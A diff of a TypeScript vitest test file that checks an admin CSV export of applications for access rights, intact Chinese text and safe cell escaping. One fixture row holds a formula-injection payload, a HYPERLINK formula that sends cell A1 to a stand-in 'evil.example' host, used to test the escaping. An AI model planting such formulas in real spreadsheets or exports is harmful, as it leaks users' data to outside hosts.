@@ -1,17 +1,13 @@
 // The applications inbox as a CSV file (issue 13): who may download it, and that a spreadsheet
 // opening it sees Chinese intact, every cell where it belongs, and no formula it would run.
 import { gunzipSync } from 'node:zlib';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { beforeAll, describe, expect, test } from 'vitest';
 import { csvCell } from '../server/modules/join/join.csv.js';
-import { as, testRoles, type SignedIn, type TestRole } from './helpers/accounts.js';
+import { signedInAppForFile, testRoles, type SignedIn, type TestRole } from './helpers/accounts.js';
 import { parseCsv } from './helpers/csv.js';
-import { startTestApp, type TestApp } from './helpers/test-app.js';
 
-let t: TestApp;
-const signedIn = {} as Record<TestRole, SignedIn>;
+const { t, signedIn } = signedInAppForFile({ env: { SEED_DEMO: 'false' } });
 beforeAll(async () => {
-  t = await startTestApp({ env: { SEED_DEMO: 'false' } });
-  for (const role of testRoles) signedIn[role] = await as(t, role);
   const people: Array<[string, string, string, 'en' | 'zh']> = [
     ['李华', 'li.hua@mail.utoronto.ca', '我想学古琴，也会弹琵琶。', 'zh'],
     ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'a@example.com', '+1 416 555 0123', 'en'],
@@ -22,7 +18,6 @@ beforeAll(async () => {
   const handled = (await t.app.services.join.list({ q: '李华' })).applications[0]!;
   await t.app.services.join.setHandled({ id: signedIn.admin.account!.id, username: signedIn.admin.account!.username }, handled.id, true);
 });
-afterAll(async () => t.close());
 
 const download = (query = '', who: SignedIn = signedIn.manageStaff, headers: Record<string, string> = {}) => who.rest(`/admin/applications.csv${query}`, { headers });
 const rowsOf = async (response: Response) => {
